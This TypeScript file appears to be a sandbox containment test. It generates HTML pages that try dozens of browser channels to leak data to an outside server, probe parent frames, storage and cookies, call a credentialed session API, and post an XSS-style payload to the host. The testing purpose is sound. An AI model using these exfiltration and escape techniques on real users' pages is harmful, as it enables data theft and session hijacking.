export interface Outside {
  url: string
  stun: string
}

/**
 * Returns a page that tries every way to leak data, except navigating away. It writes what it could access of its
 * surroundings into `#reached`. The outside server counts what arrived.
 */
export function waysOut({ url, stun }: Outside): string {
  return `<!doctype html><html><head>
<link rel="stylesheet" href="${url}/link">
<style>@import url('${url}/css-import'); body { background: url('${url}/css') }</style>
</head><body>
<img src="${url}/image">
<iframe src="${url}/frame"></iframe>
<object data="${url}/object"></object>
<video src="${url}/video" poster="${url}/poster"></video>
<form id="form" action="${url}/form" method="get"></form>
<iframe srcdoc="&lt;script&gt;${escaped(rtc(stun))}&lt;/script&gt;&lt;img src='${url}/nested'&gt;"></iframe>
<p id="reached"></p>
<script>
const reached = []
const attempt = async (name, act) => { try { if (await act() === true) reached.push(name) } catch {} }
const add = (tag, attributes) => document.head.append(Object.assign(document.createElement(tag), attributes))
;(async () => {
  await attempt('fetch', () => fetch('${url}/fetch').then(() => true))
  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr'); x.send() })
  await attempt('socket', () => { new WebSocket('${url.replace('http', 'ws')}/socket') })
  await attempt('events', () => { new EventSource('${url}/events') })
  await attempt('beacon', () => { navigator.sendBeacon('${url}/beacon', 'x') })
  await attempt('image', () => { new Image().src = '${url}/image' })
  await attempt('prefetch', () => add('link', { rel: 'prefetch', href: '${url}/prefetch' }))
  await attempt('preload', () => add('link', { rel: 'preload', as: 'image', href: '${url}/preload' }))
  await attempt('module', () => add('link', { rel: 'modulepreload', href: '${url}/module' }))
  await attempt('script', () => add('script', { src: '${url}/script' }))
  await attempt('import', () => import('${url}/import').then(() => true))
  await attempt('font', () => new FontFace('f', 'url(${url}/font)').load().then(() => true))
  await attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"]))) })
  await attempt('frame', () => document.body.append(Object.assign(document.createElement('iframe'), { src: '${url}/frame' })))
  await attempt('popup', () => window.open('${url}/popup') !== null)
  await attempt('form', () => document.getElementById('form').submit())
  await attempt('top', () => { window.top.location.href = '${url}/top' })
  await attempt('webrtc', () => { ${rtc(stun)} })
  await attempt('a fresh realm', () => {
    const inner = document.body.appendChild(document.createElement('iframe'))
    return 'RTCPeerConnection' in inner.contentWindow && inner.contentWindow.eval('true')
  })
  await attempt('a frame that was written', () => {
    const inner = document.body.appendChild(document.createElement('iframe'))
    inner.contentDocument.write('<script>parent.hit = 1</scr' + 'ipt>')
    return window.hit === 1
  })
  await attempt('parent', () => parent.document.body !== null)
  await attempt('parent storage', () => parent.localStorage.setItem('stolen', 'x') === undefined)
  await attempt('cookie', () => document.cookie !== '')
  for (const mode of ['cors', 'no-cors'])
    await attempt('our API', () => fetch('/ai/sessions', { mode, credentials: 'include' }).then(() => true))
  await attempt('host', () => { parent.postMessage({ type: 'answer', id: 1, value: '<img src=x onerror=hit()>' }, '*') })
  document.getElementById('reached').textContent = JSON.stringify(reached)
  document.body.dataset.done = 'yes'
})()
</script></body></html>`
}

export function navigations({ url }: Outside): Record<string, string> {
  const page = (script: string, rest = '') => `<!doctype html><body>${rest}<script>${script}</script></body>`
  return {
    location: page(`location.href = '${url}/location?' + document.title`),
    assign: page(`location.assign('${url}/assign')`),
    anchor: page(`document.querySelector('a').click()`, `<a href="${url}/anchor">x</a>`),
    refresh: `<!doctype html><meta http-equiv="refresh" content="0;url=${url}/refresh">`,
    meta: page(
      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${url}/meta' }))`,
    ),
    data: page(`location.href = 'data:text/html,<img src="${url}/data">'`),
    own: page(`location.href = '/ai/sessions?own'`),
  }
}

function rtc(stun: string): string {
  return `const pc = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); pc.createDataChannel('x'); pc.createOffer().then((o) => pc.setLocalDescription(o))`
}

function escaped(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
}
